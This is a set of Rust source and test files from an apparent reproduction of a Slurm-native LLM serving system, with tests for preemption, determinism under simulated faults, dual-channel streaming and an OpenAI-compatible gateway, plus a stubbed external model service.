        instances.iter().all(|i| i.job_id != inst.job_id),
        "dead instance still in the routing table"
    );
    assert!(!stack.scheduler().routing.ready_instances("intel-neural-7b").is_empty());
    // The failed job's reserved port is free again (unless the replacement
    // happened to draw the very same port).
    assert!(
        !stack.scheduler().routing.port_in_use(inst.port)
            || instances.iter().any(|i| i.port == inst.port),
        "node failure leaked reserved port {}",
        inst.port
    );
}

#[test]
fn sim_deadline_budget_cuts_generation_short() {
    // The relative deadline rides the request into the engine, which cuts
    // the ~900ms mixtral sentence after ~200 virtual milliseconds.
    let stack = SimStack::start(SimStackConfig {
        seed: 5,
        services: vec![ServiceSpec::sim("mixtral-8x7b", 1.0)],
        ..Default::default()
    });
    let id = stack.submit_chat_at(
        130_000_000,
        SimRequest {
            model: "mixtral-8x7b".into(),
            max_tokens: 64,
            deadline_ms: Some(200),
            ..Default::default()
        },
    );
    assert!(stack.run_until_settled(Duration::from_secs(600)), "request never settled");

    let recs = stack.records();
    let r = recs.iter().find(|rr| rr.id == id).unwrap();
    assert_eq!(r.finish_reason, "deadline", "{r:?}");
    assert!(r.completion_tokens >= 1, "deadline fired before any token: {r:?}");
    let elapsed = r.finish_us - r.submit_us;
    assert!(
        (150_000..600_000).contains(&elapsed),
        "deadline did not cut the ~900ms generation: {elapsed}us"
    );
}

#[test]
fn sim_scavenger_preemption_drains_without_dropping_requests() {
    // Regression for the scavenger tier's graceful drain: on a 2-node ×
    // 1-GPU cluster one guaranteed replica plus (under load) one scavenger
    // fill every GPU. A non-preemptible batch job then arrives; Slurm
    // serves the scavenger a preemption notice, the scheduler drains it
    // before the grace kill, and not a single request is dropped.
    let mut spec = ServiceSpec::sim("intel-neural-7b", 1.0);
    spec.max_instances = 1;
    spec.target_concurrency = 1.0;
    spec.max_scavengers = 1;
    let stack = SimStack::start(SimStackConfig {
        seed: 17,
        cluster: ClusterSpec {
            nodes: 2,
            gpus_per_node: 1,
            cpus_per_node: 16,
            mem_gb_per_node: 128,
            prefix: "gpu".into(),
        },
        services: vec![spec],
        ..Default::default()
    });

    // Steady 10 rps from t=40s (the guaranteed replica is ready ~35s) to
    // t=118s: windowed concurrency (~3) crosses one replica's worth, so
    // the scheduler squeezes a scavenger into the free node (~65s submit,
    // ~100s ready).
    let mut ids = Vec::new();
    let mut t = 40_000_000u64;
    while t < 118_000_000 {
        ids.push(stack.submit_chat_at(t, SimRequest { max_tokens: 64, ..Default::default() }));
        t += 100_000;
    }

    stack.run_until_us(110_000_000);
    assert!(
        stack
            .scheduler()
            .routing
            .ready_instances("intel-neural-7b")
            .iter()
            .any(|i| i.scavenger),
        "scavenger replica never became ready under load"
    );
    // Mid-stream, a whole-node batch job arrives. It is not preemptible
    // and outranks the scavenger tier (priority 0 > -10).
    let batch_id = stack.slurm().lock().unwrap().sbatch(
        JobSpec {
            name: "maintenance-batch".into(),
            account: "batch".into(),
            nodes: 1,
            gpus_per_node: 1,
            cpus_per_node: 8,
            mem_gb_per_node: 64,
            time_limit: Duration::from_secs(3600),
            duration: Some(Duration::from_secs(600)),
            priority: 0,
            preemptible: false,
            ..Default::default()
        },
        stack.now_us(),
    );

    assert!(stack.run_until_settled(Duration::from_secs(600)), "requests never settled");
    stack.run_for(Duration::from_secs(120)); // let drain + batch start play out

    // Zero dropped requests: every record is a completed generation — no
    // engine-shutdown errors, no queue timeouts.
    let recs = stack.records();
    assert_eq!(recs.len(), ids.len());
    for r in &recs {
        assert!(
            matches!(r.finish_reason.as_str(), "stop" | "length"),
            "request dropped during drain: {r:?}"
        );
    }
    // The scavenger actually carried traffic before the notice...
    let jobs: std::collections::BTreeSet<_> = recs.iter().filter_map(|r| r.placed_job).collect();
    assert!(jobs.len() >= 2, "scavenger never took a request: {jobs:?}");
    // ...the preemption notice was observed and the scavenger withdrawn...
    let m = stack.metrics().render();
    assert!(
        m.contains("sched_preemptions_total{service=\"intel-neural-7b\"} 1"),
        "no preemption notice processed:\n{m}"
    );
    assert!(
        stack
            .scheduler()
            .routing
            .instances("intel-neural-7b")
            .iter()
            .all(|i| !i.scavenger),
        "scavenger still in the routing table"
    );
    // ...and the batch job got its node.
    let job = stack.slurm().lock().unwrap().job(batch_id).unwrap();
    assert_eq!(job.state, JobState::Running, "batch job never started: {job:?}");
}

#[test]
fn model_addressable_api_lists_fleet_and_resolves_body_model() {
    // The model-addressable surface end-to-end: one POST endpoint where
    // the body names the model, plus a public fleet listing with live
    // replica-group state. Built through StackBuilder — the same
    // deployment description the sim benches use.
    let stack = chat_hpc::stack::StackBuilder::new()
        .with_services(vec![
            ServiceSpec::sim("intel-neural-7b", 0.0),
            ServiceSpec::sim("mixtral-8x7b", 0.0),
        ])
        .build()
        .expect("stack start");
    stack.wait_ready("intel-neural-7b", Duration::from_secs(15)).unwrap();

    // GET /v1/models is public (like /health) and lists the whole fleet.
    let r = http::request("GET", &format!("{}/v1/models", stack.gateway_url()), &[], b"")
        .unwrap();
    assert_eq!(r.status, 200);
    let listing = r.json_body().unwrap();
    assert_eq!(listing.str_or("object", ""), "list");
    let data = listing.get("data").and_then(|d| d.as_arr().map(<[Json]>::to_vec)).unwrap();
    let ids: Vec<&str> = data.iter().map(|m| m.str_or("id", "")).collect();
    assert!(ids.contains(&"intel-neural-7b"), "{ids:?}");
    assert!(ids.contains(&"mixtral-8x7b"), "{ids:?}");
    assert!(ids.contains(&"gpt-4"), "external wrapper missing: {ids:?}");
    let intel = data.iter().find(|m| m.str_or("id", "") == "intel-neural-7b").unwrap();
    assert_eq!(intel.str_or("state", ""), "ready", "{intel:?}");
    assert!(intel.u64_or("ready", 0) >= 1);

    // POST /v1/chat/completions resolves the body `model` via the
    // registry — no per-model path — and the usage log records the
    // resolved model.
    let body = Json::obj()
        .set("model", "mixtral-8x7b")
        .set("messages", vec![Json::obj().set("role", "user").set("content", "count")]);
    let r = http::request(
        "POST",
        &format!("{}/v1/chat/completions", stack.gateway_url()),
        &[("authorization", "Bearer key-research-0001")],
        body.dump().as_bytes(),
    )
    .unwrap();
    assert_eq!(r.status, 200, "{:?}", r.json_body());
    assert!(stack.log.entries().iter().any(|e| e.model == "mixtral-8x7b"));

    // An unknown model gets a structured 404 naming the discovery
    // endpoint, not a bare route miss.
    let bad = Json::obj().set("model", "gpt-9000").set("messages", Vec::<Json>::new());
    let r = http::request(
        "POST",
        &format!("{}/v1/chat/completions", stack.gateway_url()),
        &[("authorization", "Bearer key-research-0001")],
        bad.dump().as_bytes(),
    )
    .unwrap();
    assert_eq!(r.status, 404);
    let err = r.json_body().unwrap();
    assert_eq!(err.at(&["error", "type"]).unwrap().as_str().unwrap(), "model_not_found");
    let msg = err.at(&["error", "message"]).unwrap().as_str().unwrap().to_string();
    assert!(msg.contains("gpt-9000") && msg.contains("/v1/models"), "{msg}");
}
