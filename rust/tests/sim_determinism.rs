//! Seed-replay determinism: the virtual-time serving path (`SimStack`)
//! must be a pure function of its seed. The same scenario replayed with
//! the same seed yields byte-identical per-request traces — TTFT, finish
//! reason, cached tokens and placement included — while different seeds
//! diverge. CI runs this suite twice and diffs the trace artifact
//! (`SIM_TRACE_OUT`), so any nondeterminism sneaking into the hot path
//! (map iteration order, wall-clock reads, global RNG) fails the build.

use std::time::Duration;

use chat_hpc::scheduler::ServiceSpec;
use chat_hpc::stack::{SimRequest, SimStack, SimStackConfig};
use chat_hpc::util::faults::{FaultEvent, FaultPlan};
use chat_hpc::util::rng::Rng;
use chat_hpc::workload::scenarios::ScenarioMatrix;
use chat_hpc::workload::DiurnalArrivals;

/// A deliberately messy scenario: two models with different cold starts,
/// diurnal arrivals, a rate-limited burst, client disconnects, deadline
/// budgets, and a mid-run node failure that takes both replicas down.
/// Every one of those paths must replay identically.
fn scenario(seed: u64) -> (SimStack, usize) {
    let stack = SimStack::start(SimStackConfig {
        seed,
        services: vec![
            ServiceSpec::sim("intel-neural-7b", 1.0),
            ServiceSpec::sim("mixtral-8x7b", 1.0),
        ],
        rate_limit_rps: Some(4.0),
        // CI's stream-modes step re-runs this suite with SIM_DUAL_CHANNEL=1
        // and byte-compares the trace artifact against the default run: the
        // flag is trace-neutral by contract (stack/sim.rs).
        dual_channel: std::env::var("SIM_DUAL_CHANNEL").map_or(false, |v| v == "1"),
        ..Default::default()
    });

    // Diurnal open-loop arrivals, shifted past the slowest cold start
    // (mixtral loads for 120 virtual seconds).
    let wl = DiurnalArrivals {
        users: 40,
        mean_rps: 3.0,
        amplitude: 0.6,
        period: Duration::from_secs(600),
    };
    let arrivals = wl.generate(Duration::from_secs(240), &mut Rng::new(seed ^ 0xA11CE));
    let mut submitted = 0usize;
    for (i, &(t_us, user)) in arrivals.iter().enumerate() {
        let at = 130_000_000 + t_us;
        let id = stack.submit_chat_at(
            at,
            SimRequest {
                user: format!("user-{user}"),
                model: if user % 3 == 0 { "mixtral-8x7b" } else { "intel-neural-7b" }.into(),
                // Longer than one 16-token KV block so repeats of the same
                // variant produce prefix-cache hits in the trace.
                prompt: format!(
                    "please summarize our earlier discussion about slurm native \
                     serving clusters gpu scheduling batching latency throughput \
                     memory and deployment topic {}",
                    user % 7
                ),
                max_tokens: 32,
                deadline_ms: if i % 11 == 0 { Some(150) } else { None },
            },
        );
        submitted += 1;
        if i % 13 == 5 {
            stack.cancel_at(id, at + 200_000);
        }
    }

    // A burst from one API consumer trips the per-user token bucket.
    for _ in 0..6 {
        stack.submit_chat_at(
            135_000_000,
            SimRequest { user: "burster".into(), max_tokens: 8, ..Default::default() },
        );
        submitted += 1;
    }

    // Both replicas land first-fit on the first node; its failure at
    // t=200s exercises engine teardown, placement retry, queue timeout
    // and recovery — all of which must replay bit-identically too.
    stack.fail_node_at("ggpu01", 200_000_000);

    assert!(
        stack.run_until_settled(Duration::from_secs(3600)),
        "scenario never settled: {} requests still open",
        stack.open_requests()
    );
    (stack, submitted)
}

#[test]
fn same_seed_replays_byte_identical_traces() {
    let (a, submitted) = scenario(42);
    let (b, _) = scenario(42);
    let (ta, tb) = (a.trace(), b.trace());
    assert_eq!(ta, tb, "same seed must replay byte-identically");
    assert_eq!(
        a.executed_events(),
        b.executed_events(),
        "replay executed a different number of events"
    );
    assert_eq!(
        ta.lines().filter(|l| l.starts_with("req=")).count(),
        submitted,
        "every request must leave a record"
    );
    assert!(
        ta.lines().any(|l| l.starts_with("load job=")),
        "cold starts must fold into the trace"
    );

    // The scenario really exercised the paths it claims to (a trivially
    // empty trace would also be "deterministic").
    for needle in [
        "reason=stop",
        "reason=deadline",
        "reason=client_disconnect",
        "reason=rate_limited",
        "reason=queue_timeout",
    ] {
        assert!(ta.contains(needle), "scenario lost coverage of {needle}:\n{ta}");
    }
    let recs = a.records();
    assert!(
        recs.iter().any(|r| r.cached_tokens > 0),
        "repeated prompts never hit the prefix cache"
    );
    assert!(recs.iter().any(|r| r.ttft_us.is_some()));
    let placements: std::collections::BTreeSet<_> =
        recs.iter().filter_map(|r| r.placed_job).collect();
    assert!(placements.len() >= 3, "expected pre- and post-failure jobs: {placements:?}");
}

/// The fault plane is part of the determinism contract: a scenario laced
/// with scripted *and* seed-scattered faults — link flap, gray nodes, a
/// node crash + restore, a preemption storm, an upstream outage — must
/// replay byte-identically, fault lines included.
#[test]
fn fault_plan_laden_scenario_replays_byte_identical_traces() {
    let run = || {
        let plan = FaultPlan::new()
            .at(150_000_000, FaultEvent::LinkDown)
            .at(152_000_000, FaultEvent::LinkUp)
            .at(160_000_000, FaultEvent::GraySlow {
                node: "ggpu02".into(),
                factor_milli: 4000,
            })
            .at(200_000_000, FaultEvent::NodeFail { node: "ggpu01".into() })
            .at(230_000_000, FaultEvent::NodeRestore { node: "ggpu01".into() })
            .at(240_000_000, FaultEvent::PreemptionStorm {
                jobs: 4,
                gpus_per_job: 4,
                walltime: Duration::from_secs(30),
            })
            .at(260_000_000, FaultEvent::UpstreamDown)
            .at(262_000_000, FaultEvent::UpstreamUp)
            // The probabilistic half: seed-scattered gray failures.
            .scatter(
                &mut Rng::new(0xFA017),
                3,
                170_000_000,
                190_000_000,
                |r, _| FaultEvent::GraySlow {
                    node: format!("ggpu{:02}", r.range(1, 10)),
                    factor_milli: 2000,
                },
            );
        let stack = SimStack::start(SimStackConfig {
            seed: 1234,
            faults: plan,
            ..Default::default()
        });
        for i in 0..30u64 {
            stack.submit_chat_at(
                140_000_000 + i * 5_000_000,
                SimRequest {
                    user: format!("user-{}", i % 7),
                    max_tokens: 16,
                    deadline_ms: if i % 5 == 0 { Some(30_000) } else { None },
                    ..Default::default()
                },
            );
        }
        assert!(
            stack.run_until_settled(Duration::from_secs(3600)),
            "faulted scenario never settled: {} requests still open",
            stack.open_requests()
        );
        stack.trace()
    };
    let (a, b) = (run(), run());
    assert_eq!(a, b, "fault-laden scenario must replay byte-identically");
    assert_eq!(a.matches("fault at_us=").count(), 11, "all 11 faults applied:\n{a}");
    assert!(a.contains("fault at_us=200000000 node_fail node=ggpu01"));
    assert!(a.contains("preemption_storm jobs=4 gpus=4 walltime_s=30"));
    assert!(a.contains("fault at_us=260000000 upstream_down"));
    assert!(a.contains("factor_milli=2000"), "scattered gray faults applied:\n{a}");
    assert!(
        a.contains("reason=stop") || a.contains("reason=length"),
        "some requests still complete through the chaos:\n{a}"
    );
}

/// The scenario matrix rides the same contract: a full flash-crowd drill —
/// scale-from-zero cold start, 10x burst, autoscale to extra replicas —
/// replays byte-identically, weight-load lines included, and a different
/// seed lands different arrivals.
#[test]
fn flash_crowd_scenario_replays_byte_identical_traces() {
    let matrix = ScenarioMatrix::new(42, true);
    let a = matrix.run_once("flash_crowd");
    let b = matrix.run_once("flash_crowd");
    assert_eq!(a.trace, b.trace, "flash crowd must replay byte-identically");
    assert!(
        a.trace.lines().filter(|l| l.starts_with("load job=")).count() >= 2,
        "burst never scaled past the first replica:\n{}",
        a.trace
    );
    assert!(
        a.records.iter().any(|r| r.finish_reason == "stop" || r.finish_reason == "length"),
        "flash crowd completed nothing"
    );
    let c = ScenarioMatrix::new(43, true).run_once("flash_crowd");
    assert_ne!(a.trace, c.trace, "distinct seeds must not collide");
}

/// Fault lines are trace content too: the coordinated failure drill (node
/// loss + preemption storm) replays byte-identically with its scripted
/// faults folded into the trace at the same virtual instants.
#[test]
fn failure_drill_scenario_replays_fault_lines_byte_identically() {
    let matrix = ScenarioMatrix::new(7, true);
    let a = matrix.run_once("failure_drill");
    let b = matrix.run_once("failure_drill");
    assert_eq!(a.trace, b.trace, "failure drill must replay byte-identically");
    assert!(a.trace.contains("node_fail node=ggpu01"), "node loss missing:\n{}", a.trace);
    assert!(
        a.trace.contains("preemption_storm jobs=8"),
        "storm missing:\n{}",
        a.trace
    );
}

#[test]
fn different_seeds_diverge() {
    let (a, _) = scenario(42);
    let (b, _) = scenario(43);
    assert_ne!(a.trace(), b.trace(), "distinct seeds must not collide");
}

#[test]
fn replay_is_stable_within_one_process_and_across_processes() {
    // Cheap smoke for the CI cross-process diff: a small fixed scenario,
    // plus the artifact hook — when SIM_TRACE_OUT is set, the big
    // scenario's trace is written there; ci.sh runs the suite twice in
    // separate processes and byte-compares the two files.
    let run = || {
        let stack = SimStack::start(SimStackConfig { seed: 7, ..Default::default() });
        for i in 0..5u64 {
            stack.submit_chat_at(40_000_000 + i * 250_000, SimRequest::default());
        }
        assert!(stack.run_until_settled(Duration::from_secs(300)));
        stack.trace()
    };
    assert_eq!(run(), run());

    if let Some(path) = std::env::var_os("SIM_TRACE_OUT") {
        let (stack, _) = scenario(42);
        std::fs::write(&path, stack.trace()).expect("write trace artifact");
    }
}
