//! Dual-channel streaming, end to end (DESIGN.md §Dual-channel streaming).
//!
//! The contract under test: with `StackConfig::dual_channel` enabled,
//! control traffic (exec setup, cancel, keepalive, exit status) stays on
//! the pooled SSH lanes while `infer` reply bytes ride dedicated bulk
//! connections — and the client-visible SSE byte stream is IDENTICAL to
//! the single-channel baseline. Cancels and bulk-lane failures must free
//! lane slots and bulk subchannels in both wall-clock and virtual-time
//! modes, and the flag must be trace-neutral under `SimStack`.

use std::time::Duration;

use chat_hpc::scheduler::ServiceSpec;
use chat_hpc::stack::{ChatAiStack, SimRequest, SimStack, SimStackConfig, StackConfig};
use chat_hpc::util::http;
use chat_hpc::util::json::Json;

fn start_stack(model: &str, time_scale: f64, dual: bool, zero_copy: bool) -> ChatAiStack {
    let stack = ChatAiStack::start(StackConfig {
        services: vec![ServiceSpec::sim(model, time_scale)],
        with_external: false,
        dual_channel: dual,
        zero_copy_sse: zero_copy,
        ..Default::default()
    })
    .expect("stack start");
    stack.wait_ready(model, Duration::from_secs(15)).unwrap();
    stack
}

/// One streaming chat; returns the HTTP status and the raw SSE bytes
/// exactly as the client socket saw them.
fn raw_sse(stack: &ChatAiStack, model: &str) -> (u16, Vec<u8>) {
    let body = Json::obj()
        .set("model", model)
        .set("messages", vec![Json::obj().set("role", "user").set("content", "count")])
        .set("stream", true);
    let mut bytes = Vec::new();
    let status = http::request_stream(
        "POST",
        &format!("{}/v1/m/{model}/", stack.gateway_url()),
        &[
            ("authorization", &format!("Bearer {}", stack.api_key)),
            ("content-type", "application/json"),
        ],
        body.dump().as_bytes(),
        |chunk| bytes.extend_from_slice(chunk),
    )
    .unwrap();
    (status, bytes)
}

/// Completion ids come from one process-global counter shared by every
/// in-process engine, so stacks started in sequence disagree on the
/// number. Everything else must match byte for byte.
fn normalize_ids(raw: &[u8]) -> String {
    let s = String::from_utf8(raw.to_vec()).expect("SSE stream is UTF-8");
    let mut out = String::with_capacity(s.len());
    let mut rest = s.as_str();
    while let Some(pos) = rest.find("chatcmpl-") {
        let after = pos + "chatcmpl-".len();
        out.push_str(&rest[..after]);
        out.push('N');
        let tail = &rest[after..];
        let digits = tail.bytes().take_while(|b| b.is_ascii_digit()).count();
        rest = &tail[digits..];
    }
    out.push_str(rest);
    out
}

#[test]
fn dual_channel_sse_bytes_match_single_channel_baseline() {
    // Single-channel baseline first, then dual, then dual + zero-copy SSE:
    // three stacks, one prompt, byte-compared streams.
    let single = {
        let stack = start_stack("intel-neural-7b", 0.0, false, false);
        let (status, bytes) = raw_sse(&stack, "intel-neural-7b");
        assert_eq!(status, 200);
        bytes
    };
    let dual = {
        let stack = start_stack("intel-neural-7b", 0.0, true, false);
        let (status, bytes) = raw_sse(&stack, "intel-neural-7b");
        assert_eq!(status, 200);
        // The stream really rode a bulk lane, not the fallback path.
        assert!(
            stack
                .metrics
                .render()
                .contains("proxy_bulk_streams_total{service=\"intel-neural-7b\"} 1"),
            "dual-channel stream did not use a bulk lane:\n{}",
            stack.metrics.render()
        );
        assert!(stack.ssh_server.stats.bulk_execs.load(std::sync::atomic::Ordering::Relaxed) >= 1);
        bytes
    };
    let dual_zero_copy = {
        let stack = start_stack("intel-neural-7b", 0.0, true, true);
        let (status, bytes) = raw_sse(&stack, "intel-neural-7b");
        assert_eq!(status, 200);
        bytes
    };

    let (a, b, c) =
        (normalize_ids(&single), normalize_ids(&dual), normalize_ids(&dual_zero_copy));
    assert!(a.contains("1 2 3"), "baseline stream lost its tokens:\n{a}");
    assert!(a.contains("[DONE]"), "baseline stream lost its terminator:\n{a}");
    assert_eq!(a, b, "dual-channel changed the client-visible bytes");
    assert_eq!(a, c, "zero-copy SSE changed the client-visible bytes");
}

#[test]
fn dual_mid_stream_cancel_frees_lane_and_bulk_subchannel() {
    // A client hangs up two events into a real-paced dual-channel stream.
    // The cancel must cross gateway → proxy → SSH → interface → engine,
    // and both the control-lane channel slot and the bulk subchannel must
    // return to zero.
    let stack = start_stack("mixtral-8x7b", 1.0, true, false);
    let body = Json::obj()
        .set("model", "mixtral-8x7b")
        .set("messages", vec![Json::obj().set("role", "user").set("content", "count")])
        .set("stream", true);
    let mut events = 0usize;
    let (status, aborted) = http::request_stream_ctl(
        "POST",
        &format!("{}/v1/m/mixtral-8x7b/", stack.gateway_url()),
        &[
            ("authorization", &format!("Bearer {}", stack.api_key)),
            ("content-type", "application/json"),
        ],
        body.dump().as_bytes(),
        |_| {
            events += 1;
            events < 2 // hang up mid-stream
        },
    )
    .unwrap();
    assert_eq!(status, 200);
    assert!(aborted, "stream finished before we could abandon it");

    for needle in [
        "proxy_bulk_streams_total{service=\"mixtral-8x7b\"} 1",
        "proxy_cancelled_total{service=\"mixtral-8x7b\"} 1",
        "ci_cancelled_total{service=\"mixtral-8x7b\"} 1",
        "llm_cancelled_total{model=\"mixtral-8x7b\"} 1",
    ] {
        assert!(
            stack.metrics.wait_for_metric(needle, Duration::from_secs(10)),
            "cancellation never reached this layer ({needle}):\n{}",
            stack.metrics.render()
        );
    }
    // Slot accounting: no leaked control channels, no leaked bulk
    // subchannels (the EOF/close bookkeeping can lag the metrics tick).
    let deadline = std::time::Instant::now() + Duration::from_secs(5);
    loop {
        let ctl: usize = stack.proxy.member_loads().iter().flatten().sum();
        let bulk: usize = stack.proxy.bulk_lane_loads().iter().flatten().sum();
        if ctl == 0 && bulk == 0 {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "leaked slots after cancel: control={:?} bulk={:?}",
            stack.proxy.member_loads(),
            stack.proxy.bulk_lane_loads()
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn dual_bulk_lane_failure_frees_slots_and_recovers() {
    // Both bulk lanes die mid-stream (node/network failure on the token
    // path). The victim stream may end with an error — but nothing may
    // leak: the keepalive revives the lanes, subchannel accounting returns
    // to zero, and the next stream serves normally.
    let stack = start_stack("mixtral-8x7b", 1.0, true, false);
    assert_eq!(stack.proxy.alive_bulk_lanes(), 2, "sanity: both bulk lanes up");

    std::thread::scope(|s| {
        s.spawn(|| {
            // Accept order with pool_size 1: session 0 = control lane,
            // sessions 1 and 2 = the bulk lanes.
            std::thread::sleep(Duration::from_millis(300));
            assert!(stack.ssh_server.kill_session(1));
            assert!(stack.ssh_server.kill_session(2));
        });
        // Real-paced stream (~0.9 s): in flight when the lanes die.
        let _ = raw_sse(&stack, "mixtral-8x7b");
    });

    // The keepalive re-establishes both lanes and no subchannel leaked.
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    loop {
        let loads = stack.proxy.bulk_lane_loads();
        if loads.iter().all(|l| *l == Some(0)) {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "bulk lanes never recovered cleanly: {loads:?}"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    let conns = stack.ssh_server.stats.bulk_conns.load(std::sync::atomic::Ordering::Relaxed);
    assert!(conns >= 4, "expected revived bulk lanes (2 initial + 2 new), saw {conns}");

    // Service intact end to end after the failure.
    let text = stack.chat_stream("mixtral-8x7b", "count").unwrap();
    assert!(text.starts_with("1 2 3"), "post-recovery stream wrong: {text:?}");
}

// ---------------------------------------------------------------------------
// Virtual-time variants
// ---------------------------------------------------------------------------

fn sim_scenario(dual: bool) -> String {
    let stack = SimStack::start(SimStackConfig {
        seed: 33,
        dual_channel: dual,
        ..Default::default()
    });
    for i in 0..6u64 {
        stack.submit_chat_at(
            40_000_000 + i * 300_000,
            SimRequest {
                user: format!("user-{i}"),
                max_tokens: 12,
                ..Default::default()
            },
        );
    }
    let victim = stack.submit_chat_at(42_000_000, SimRequest::default());
    stack.cancel_at(victim, 42_050_000);
    assert!(stack.run_until_settled(Duration::from_secs(600)), "scenario never settled");
    stack.trace()
}

#[test]
fn sim_trace_is_byte_identical_with_dual_channel_enabled() {
    // The virtual-time harness simulates the SSH transport away, so the
    // dual-channel flag MUST be trace-neutral (the CI determinism step
    // additionally byte-compares across processes with SIM_DUAL_CHANNEL=1).
    assert_eq!(
        sim_scenario(false),
        sim_scenario(true),
        "dual_channel leaked into the virtual-time trace"
    );
}

#[test]
fn sim_dual_mid_stream_cancel_frees_engine_slot() {
    // The sim twin of `dual_mid_stream_cancel_frees_lane_and_bulk_subchannel`:
    // with dual-channel enabled, a mid-generation disconnect still frees
    // the engine batch slot and the follow-up request completes.
    let stack = SimStack::start(SimStackConfig {
        seed: 21,
        services: vec![ServiceSpec::sim("mixtral-8x7b", 1.0)],
        dual_channel: true,
        ..Default::default()
    });
    let victim = stack.submit_chat_at(
        130_000_000,
        SimRequest { model: "mixtral-8x7b".into(), max_tokens: 64, ..Default::default() },
    );
    stack.cancel_at(victim, 130_500_000);
    let survivor = stack.submit_chat_at(
        131_000_000,
        SimRequest { model: "mixtral-8x7b".into(), max_tokens: 64, ..Default::default() },
    );
    assert!(stack.run_until_settled(Duration::from_secs(600)), "requests never settled");

    let recs = stack.records();
    let v = recs.iter().find(|r| r.id == victim).unwrap();
    assert_eq!(v.finish_reason, "client_disconnect", "{v:?}");
    let s = recs.iter().find(|r| r.id == survivor).unwrap();
    assert_eq!(s.finish_reason, "stop", "slot not reusable after the disconnect: {s:?}");
    let m = stack.metrics().render();
    assert!(
        m.contains("llm_cancelled_total{model=\"mixtral-8x7b\"} 1"),
        "engine never observed the disconnect:\n{m}"
    );
    assert!(m.contains("sim_dual_channel 1"), "dual-channel flag not surfaced:\n{m}");
}
