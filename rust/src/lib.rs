//! # chat-hpc
//!
//! A from-scratch reproduction of *"Chat AI: A Seamless Slurm-Native Solution
//! for HPC-Based Services"* (Doosthosseini, Decker, Nolte, Kunkel — GWDG,
//! 2024) as a three-layer Rust + JAX + Pallas stack.
//!
//! The crate is organised bottom-up:
//!
//! - [`util`] — substrates this offline build owns outright: JSON, PRNG,
//!   HTTP/1.1 (server + client with chunked/SSE streaming), a
//!   Prometheus-style metrics registry, a wall/sim clock abstraction, a tiny
//!   property-test driver.
//! - [`slurm`] — a Slurm simulator (nodes, GRES GPUs, partitions,
//!   `sbatch`/`squeue`/`scancel`, priority + backfill scheduling, failure
//!   injection) that exposes exactly the contract the paper's scheduler
//!   script consumes.
//! - [`sshsim`] — an SSH-shaped encrypted channel with `authorized_keys`
//!   ForceCommand enforcement: the paper's circuit breaker (§5.4–5.5).
//! - [`runtime`] — PJRT execution of the AOT-compiled JAX/Pallas model
//!   (`artifacts/*.hlo.txt`) via the `xla` crate.
//! - [`llmserver`] — a vLLM-like inference server: paged KV cache,
//!   continuous batching, OpenAI-compatible streaming API.
//! - [`scheduler`] + [`interface`] — the paper's core contribution: the
//!   Slurm-native service scheduler and the Cloud Interface Script.
//! - [`hpcproxy`], [`gateway`], [`auth`], [`webapp`], [`external`] — the
//!   ESX-server side of Figure 1.
//! - [`analytics`] — the usage-logging pipeline plus an adoption simulator
//!   used to regenerate Figures 3–5.
//! - [`workload`] — Locust-like load generation and the latency prober used
//!   for Tables 1–2.
//!
//! Python (JAX + Pallas) participates only at build time: `make artifacts`
//! lowers the model to HLO text which the Rust binary loads through PJRT.
//! Nothing on the request path imports Python.

pub mod util;
pub mod slurm;
pub mod sshsim;
pub mod runtime;
pub mod llmserver;
pub mod scheduler;
pub mod interface;
pub mod hpcproxy;
pub mod gateway;
pub mod auth;
pub mod webapp;
pub mod external;
pub mod analytics;
pub mod workload;
pub mod stack;
