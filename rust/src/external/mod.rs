//! External Proxy (§5.8): the optional wrapper route for commercial models.
//!
//! The paper exposes OpenAI's GPT-4 through the same gateway, behind strict
//! rate limits and group restrictions, using a single shared API key so
//! individual users are not attributable to OpenAI. Offline, the external
//! endpoint itself is simulated: an OpenAI-shaped server with realistic
//! latency that tags its responses so tests can tell internal from
//! external serving apart.

use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;

use crate::util::http::{Handler, Reply, Request, Response, Server};
use crate::util::json::Json;

/// A stand-in for api.openai.com.
pub struct ExternalLlmService {
    pub server: Server,
}

impl ExternalLlmService {
    pub fn start(model: &str, latency: Duration) -> Result<ExternalLlmService> {
        let model = model.to_string();
        let handler: Handler = Arc::new(move |req: &Request| -> Reply {
            match (req.method.as_str(), req.path.as_str()) {
                ("POST", "/v1/chat/completions") => {
                    std::thread::sleep(latency);
                    let content = "As an external commercial model, I can confirm: \
                                   1 2 3 4 5 6 7 8 9 10";
                    let choice = Json::obj()
                        .set("index", 0u64)
                        .set(
                            "message",
                            Json::obj().set("role", "assistant").set("content", content),
                        )
                        .set("finish_reason", "stop");
                    Reply::full(Response::json(
                        200,
                        &Json::obj()
                            .set("id", "chatcmpl-ext")
                            .set("object", "chat.completion")
                            .set("model", model.as_str())
                            .set("served_by", "external")
                            .set("choices", vec![choice]),
                    ))
                }
                ("GET", "/health") => {
                    Reply::full(Response::json(200, &Json::obj().set("status", "ok")))
                }
                _ => Reply::full(Response::json(404, &Json::obj().set("error", "not found"))),
            }
        });
        Ok(ExternalLlmService { server: Server::start(handler)? })
    }

    pub fn url(&self) -> String {
        self.server.url()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::http;

    #[test]
    fn external_service_responds_openai_shaped() {
        let ext = ExternalLlmService::start("gpt-4", Duration::from_millis(1)).unwrap();
        let r = http::post_json(
            &format!("{}/v1/chat/completions", ext.url()),
            &Json::obj().set("messages", vec![Json::obj().set("content", "hi")]),
        )
        .unwrap();
        assert_eq!(r.status, 200);
        let j = r.json_body().unwrap();
        assert_eq!(j.str_or("served_by", ""), "external");
        assert!(j
            .at(&["choices", "0", "message", "content"])
            .unwrap()
            .as_str()
            .unwrap()
            .contains("external"));
    }
}
