//! Routing table + demand tracking (§5.6).
//!
//! The scheduler script maintains a routing table with an entry per active
//! service job (service, node, port, readiness); the Cloud Interface Script
//! uses it to forward each request to a random *ready* instance (the
//! paper's random load balancing) — or, with per-instance in-flight
//! tracking, to the *least-loaded* ready instance (random only as the
//! tie-break), which keeps one slow request from stacking a batch on an
//! already-busy instance. Demand is measured as the average number
//! of concurrent requests per service over a sliding window, recomputed on
//! every scheduling run — the autoscaling signal.

use std::collections::BTreeMap;
use std::sync::atomic::{AtomicI64, Ordering};
use std::sync::{Arc, Mutex};

use crate::slurm::JobId;
use crate::util::rng::Rng;

/// One service-job instance known to the router.
